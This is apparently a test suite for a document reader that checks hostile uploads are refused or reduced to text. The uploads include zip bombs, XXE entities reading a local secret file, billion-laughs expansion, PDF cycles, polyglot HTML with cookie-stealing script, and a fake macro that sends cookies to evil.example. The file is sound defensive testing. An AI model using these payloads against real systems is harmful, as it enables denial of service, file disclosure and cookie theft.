import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { detectDocumentType, PACKAGE_LIMITS } from '../../src/documents/detect.ts'
import { DocumentError, type DocumentErrorKind } from '../../src/documents/errors.ts'
import { CSV, DOCX, PDF, TXT, XLSX } from '../../src/documents/media-types.ts'
import { readDocument } from '../../src/documents/read.ts'
import { Sandbox } from '../../src/mcp/sandbox.ts'
import { EXTRACTED_TEXT_CAP } from '../../src/documents/text-cap.ts'
import { deflatedSpaces, docxWithDocumentXml, docxWithText, pdfWithObjects, pdfWithText, WORD_DOCUMENT, xlsxWithSharedStrings, zipBombDocx, zipOf } from '../helpers/documents.ts'
import { HAS_BWRAP } from '../helpers/platform.ts'

// Hostile documents as a tenant would send them, read the way an upload reads them: judged by their bytes, then
// read in the reader process (inside the sandbox where this machine has bubblewrap). Each ends as text or as a
// refusal saying why — never as an error of another kind, which the API would answer with a 5xx.

const MiB = 1024 * 1024
const encode = (s: string) => new TextEncoder().encode(s)
const sandbox = new Sandbox({ mode: HAS_BWRAP ? 'bwrap' : 'none', dataDir: join(tmpdir(), 'switchboard-no-data') })

/** What reading the bytes came to: the text, or the refusal's kind and message. */
async function outcome(bytes: Uint8Array, filename = 'file') {
  try {
    const read = await readDocument(bytes, filename, undefined, sandbox.enabled ? sandbox : undefined)
    return { read }
  } catch (error) {
    // Anything but a DocumentError here would reach the API as a failure of the platform.
    expect(error).toBeInstanceOf(DocumentError)
    return { refused: error as DocumentError }
  }
}

async function refusal(bytes: Uint8Array, filename = 'file'): Promise<{ kind: DocumentErrorKind; message: string }> {
  const { read, refused } = await outcome(bytes, filename)
  expect(read).toBeUndefined()
  return { kind: refused!.kind, message: refused!.message }
}

let secrets: string
let secretFile: string
const SECRET = 'the-contents-of-a-private-file-7f3a'
let fetched: string[] = []
let server: ReturnType<typeof Bun.serve>

beforeAll(() => {
  secrets = mkdtempSync(join(tmpdir(), 'switchboard-xxe-'))
  secretFile = join(secrets, 'secret.txt')
  writeFileSync(secretFile, SECRET)
  // Where an external entity or a remote reference would be fetched from, if any reader fetched one.
  server = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch(request) {
      fetched.push(new URL(request.url).pathname)
      return new Response(SECRET)
    },
  })
})

afterAll(() => {
  rmSync(secrets, { recursive: true, force: true })
  server.stop(true)
})

describe('zip packages', () => {
  test('a DOCX that declares it unpacks to 2 GiB is refused unread, at once', async () => {
    const bomb = zipBombDocx(2048 * MiB)
    expect(bomb.length).toBeLessThan(20 * MiB)
    const { kind, message } = await refusal(bomb, 'report.docx')
    expect(kind).toBe('too_large')
    expect(message).toBe('This DOCX file unpacks to 2 GiB, far more than its size explains (a compressed bomb, or a damaged file), so it was not read.')
    // The refusal is the judging of its type, which reads the zip's directory and starts no reader.
    await expect(detectDocumentType(bomb, 'report.docx')).rejects.toMatchObject({ kind: 'too_large' })
  })

  test('a part under the total that inflates over a hundredfold is refused by its ratio', async () => {
    // About 100 MiB from 0.7 MiB: 146 to 1, under the 1 GiB total.
    const bomb = zipBombDocx(PACKAGE_LIMITS.ratioFrom * 2)
    const { kind, message } = await refusal(bomb, 'report.docx')
    expect(kind).toBe('too_large')
    expect(message).toStartWith('This DOCX file unpacks to 101.1 MiB, far more than its size explains')
  })

  test('a package of more parts than any document has is refused unread', async () => {
    const parts = Array.from({ length: PACKAGE_LIMITS.entries + 1 }, (_, i) => ({ name: `word/media/part${i}.xml`, data: '<a/>' }))
    const many = docxWithDocumentXml(`${WORD_DOCUMENT.xmlDeclaration}${WORD_DOCUMENT.open}<w:p><w:r><w:t>hi</w:t></w:r></w:p>${WORD_DOCUMENT.close}`, parts)
    const { kind, message } = await refusal(many, 'many.docx')
    expect(kind).toBe('too_large')
    expect(message).toBe(`This DOCX file holds ${PACKAGE_LIMITS.entries + 4} parts; a document may hold at most ${PACKAGE_LIMITS.entries}.`)
  })

  test('a bomb that lies about its size gets past the directory and is stopped by the reader’s memory cap', async () => {
    const liar = zipBombDocx(1024 * MiB, { declaredSize: 4096 })
    const { kind } = await refusal(liar, 'report.docx')
    expect(['memory', 'unreadable']).toContain(kind)
    // The next document is read as usual.
    expect((await outcome(docxWithText(['Still here.']), 'next.docx')).read?.text).toBe('Still here.')
  }, 40_000)

  test('an honest large package below the limits is read', async () => {
    const parts = Array.from({ length: 500 }, (_, i) => ({ name: `word/media/part${i}.xml`, data: '<a/>' }))
    const { read } = await outcome(docxWithDocumentXml(`${WORD_DOCUMENT.xmlDeclaration}${WORD_DOCUMENT.open}<w:p><w:r><w:t>Fine.</w:t></w:r></w:p>${WORD_DOCUMENT.close}`, parts), 'fine.docx')
    expect(read?.text).toBe('Fine.')
  })
})

describe('XML', () => {
  const doctype = (entities: string) => `${WORD_DOCUMENT.xmlDeclaration}<!DOCTYPE w:document [${entities}]>\n`
  const body = (text: string) => `${WORD_DOCUMENT.open}<w:p><w:r><w:t>${text}</w:t></w:r></w:p>${WORD_DOCUMENT.close}`

  test('a DOCX’s external entities are neither read from files nor fetched', async () => {
    fetched = []
    const xml = doctype(`<!ENTITY file SYSTEM "file://${secretFile}"><!ENTITY web SYSTEM "http://127.0.0.1:${server.port}/xxe">`) + body('before &file; &web; after')
    const { read, refused } = await outcome(docxWithDocumentXml(xml), 'xxe.docx')
    expect(read?.text ?? refused?.message).not.toContain(SECRET)
    expect(refused?.kind ?? 'read').not.toBe('too_large')
    expect(fetched).toEqual([])
  })

  test('a workbook’s external entities are neither read from files nor fetched', async () => {
    fetched = []
    const strings =
      `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY file SYSTEM "file://${secretFile}"><!ENTITY web SYSTEM "http://127.0.0.1:${server.port}/xxe">]>` +
      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>cell &file; &web;</t></si></sst>'
    const { read, refused } = await outcome(xlsxWithSharedStrings(strings), 'xxe.xlsx')
    expect(read?.text ?? refused?.message).not.toContain(SECRET)
    expect(fetched).toEqual([])
  })

  test('a plain workbook of the same making is read, so the refusals above are about the entities', async () => {
    const strings = '<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>plain cell</t></si></sst>'
    const { read } = await outcome(xlsxWithSharedStrings(strings), 'plain.xlsx')
    expect(read?.mediaType).toBe(XLSX)
    expect(read?.text).toBe('# Data\nplain cell')
  })

  test('a billion laughs is not expanded: the text stays small, or the file is refused', async () => {
    const levels = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`)
    for (const bytes of [docxWithDocumentXml(doctype(levels.join('')) + body('&lol9;')), xlsxWithSharedStrings(`<?xml version="1.0"?>\n<!DOCTYPE sst [${levels.join('')}]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>`)]) {
      const { read } = await outcome(bytes, 'laughs')
      // Fully expanded, &lol9; is 3 GB of text; whatever is kept is within the cap.
      expect(Buffer.byteLength(read?.text ?? '')).toBeLessThanOrEqual(EXTRACTED_TEXT_CAP)
    }
  }, 60_000)

  test('XML nested a hundred thousand deep is read or refused, and the next document is read', async () => {
    const depth = 100_000
    const nested = `${WORD_DOCUMENT.xmlDeclaration}${WORD_DOCUMENT.open}${'<w:sdt><w:sdtContent>'.repeat(depth)}<w:p><w:r><w:t>deep</w:t></w:r></w:p>${'</w:sdtContent></w:sdt>'.repeat(depth)}${WORD_DOCUMENT.close}`
    const { read, refused } = await outcome(docxWithDocumentXml(nested), 'deep.docx')
    if (refused) expect(['unreadable', 'memory', 'timeout']).toContain(refused.kind)
    else expect(read!.text).toContain('deep')
    expect((await outcome(docxWithText(['After the deep one.']), 'next.docx')).read?.text).toBe('After the deep one.')
  }, 40_000)
})

describe('PDF', () => {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

  test('a page tree that contains itself is refused as unreadable, not followed forever', async () => {
    const cyclic = pdfWithObjects([catalog, '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'])
    const { read, refused } = await outcome(cyclic, 'cycle.pdf')
    // Unreadable, not stopped at the time limit: the cycle is noticed, not walked.
    if (refused) expect(refused.kind).toBe('unreadable')
    else expect(read!.text).toBe('')
  }, 30_000)

  test('a content stream that inflates to 1 GiB stops at a limit, and the next document is read', async () => {
    const stream = deflatedSpaces(1024 * MiB)
    expect(stream.length).toBeLessThan(10 * MiB)
    const bomb = pdfWithObjects(
      [catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>', font, '<< /Length %LENGTH% /Filter /FlateDecode >>'],
      { 5: stream },
    )
    const { read, refused } = await outcome(bomb, 'stream.pdf')
    // A gigabyte of spaces is no text; read or stopped, nothing of it is kept.
    if (refused) expect(['memory', 'timeout', 'unreadable']).toContain(refused.kind)
    else expect(read!.text).toBe('')
    expect((await outcome(pdfWithText(['After the bomb.']), 'next.pdf')).read?.text).toContain('After the bomb.')
  }, 60_000)
})

describe('what a file claims to be', () => {
  test('a PDF that is also an HTML page is a PDF: only its text is kept, never the markup as a page', async () => {
    const pdf = new TextDecoder().decode(pdfWithText(['Polyglot text.']))
    const polyglot = encode(pdf.replace('%PDF-1.4\n', '%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body></html>\n'))
    const { read } = await outcome(polyglot, 'page.html')
    expect(read?.mediaType).toBe(PDF)
    expect(read?.text).toContain('Polyglot text.')
    expect(read?.text).not.toContain('<script>')
  })

  test('an HTML page is text whatever it is called, kept as text to read, never as a page', async () => {
    const { read } = await outcome(encode('<html><script>alert(1)</script><p>Hello</p></html>'), 'report.pdf')
    expect(read?.mediaType).toBe(TXT)
  })

  test('a script with a zip after it is neither text nor an Office document', async () => {
    const zipAfterScript = Buffer.concat([encode('var x = 1; // a script\n'), docxWithText(['hidden'])])
    const { kind } = await refusal(zipAfterScript, 'notes.docx')
    expect(kind).toBe('unsupported')
  })

  test('a zip with a DOCX’s parts ahead of a script is read for its text alone', async () => {
    const scriptInside = zipOf([
      { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>' },
      { name: '_rels/.rels', data: '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>' },
      { name: 'word/document.xml', data: `${WORD_DOCUMENT.xmlDeclaration}${WORD_DOCUMENT.open}<w:p><w:r><w:t>Only this.</w:t></w:r></w:p>${WORD_DOCUMENT.close}` },
      { name: 'word/vbaProject.js', data: 'fetch("https://evil.example/" + document.cookie)' },
    ])
    const { read } = await outcome(scriptInside, 'macro.docx')
    expect(read?.mediaType).toBe(DOCX)
    expect(read?.text).toBe('Only this.')
  })

  test('a table named .txt is CSV, and a text of no columns named .csv is text: the bytes decide', async () => {
    expect((await outcome(encode('a,b\n1,2\n3,4\n'), 'notes.txt')).read?.mediaType).toBe(CSV)
    expect((await outcome(encode('A line of prose without any delimiter at all'), 'table.csv')).read?.mediaType).toBe(TXT)
  })
})
